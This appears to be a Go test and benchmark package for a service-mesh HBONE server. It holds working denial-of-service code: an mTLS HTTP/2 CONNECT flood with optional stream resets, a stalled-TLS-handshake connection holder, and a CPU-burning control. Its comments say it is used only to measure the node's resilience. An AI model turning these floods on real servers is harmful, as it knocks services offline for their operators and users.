// Package attack is attack traffic for tests and benchmarks, and what they measure of the
// honest client beside it (victim.go). The attacks are a peer with a valid mesh
// certificate that floods an HBONE server with CONNECTs and one that holds TLS handshakes
// open; each sends only to the address it is given and stops when told. Nothing in the
// node links this package.
package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"runtime"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2Flood keeps one mTLS HTTP/2 connection to addr sending CONNECT dst, one per every (0:
// as fast as it can), each followed by RST_STREAM(CANCEL) if reset; it never reads. When
// the server closes the connection it opens another, until stop is closed. ops counts the
// CONNECTs sent.
func H2Flood(addr, dst string, cfg *tls.Config, every time.Duration, reset bool, stop <-chan struct{}, ops *atomic.Int64) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() {
		select {
		case <-stop:
			cancel()
		case <-ctx.Done():
		}
	}()
	for ctx.Err() == nil {
		tc, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", addr)
		if err != nil {
			time.Sleep(10 * time.Millisecond) // refused: the node's answer
			continue
		}
		floodConn(ctx, tc, dst, every, reset, ops)
		tc.Close()
	}
}

// floodConn sends CONNECTs on one connection until a write fails or ctx ends.
func floodConn(ctx context.Context, tc net.Conn, dst string, every time.Duration, reset bool, ops *atomic.Int64) {
	defer context.AfterFunc(ctx, func() { tc.Close() })()
	fr := http2.NewFramer(tc, tc)
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	if _, err := tc.Write([]byte(http2.ClientPreface)); err != nil || fr.WriteSettings() != nil {
		return
	}
	next := time.Now()
	for id := uint32(1); id < 1<<31; id += 2 {
		if every > 0 {
			next = next.Add(every)
			time.Sleep(time.Until(next))
		}
		hbuf.Reset()
		enc.WriteField(hpack.HeaderField{Name: ":method", Value: "CONNECT"})
		enc.WriteField(hpack.HeaderField{Name: ":authority", Value: dst})
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true}) != nil {
			return
		}
		if reset && fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		ops.Add(1)
	}
}

// StalledTLS holds up to hold TCP connections to addr open, each having sent a
// ClientHello of cfg's and nothing more; past hold, one is replaced every millisecond.
// ops counts the connections made.
func StalledTLS(addr string, cfg *tls.Config, hold int, stop <-chan struct{}, ops *atomic.Int64) {
	hello := ClientHello(cfg)
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	for {
		select {
		case <-stop:
			return
		default:
		}
		if len(open) == hold {
			time.Sleep(time.Millisecond)
			open[0].Close()
			open = open[1:]
		}
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			continue
		}
		c.Write(hello)
		open = append(open, c)
		ops.Add(1)
	}
}

// ClientHello is a TLS client's first flight with cfg: what a peer that starts TLS and
// stalls sends.
func ClientHello(cfg *tls.Config) []byte {
	a, b := net.Pipe()
	defer a.Close()
	defer b.Close()
	go tls.Client(a, cfg).Handshake()
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(b, hdr); err != nil {
		return nil
	}
	body := make([]byte, int(hdr[3])<<8|int(hdr[4]))
	if _, err := io.ReadFull(b, body); err != nil {
		return nil
	}
	return append(hdr, body...)
}

// Burn keeps one OS thread busy until stop is closed, counting its turns in ops: the
// control beside a flood, an attacker that takes as much CPU from the machine's other
// processes but sends nothing.
func Burn(stop <-chan struct{}, ops *atomic.Int64) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	for {
		select {
		case <-stop:
			return
		default:
			ops.Add(1)
		}
	}
}
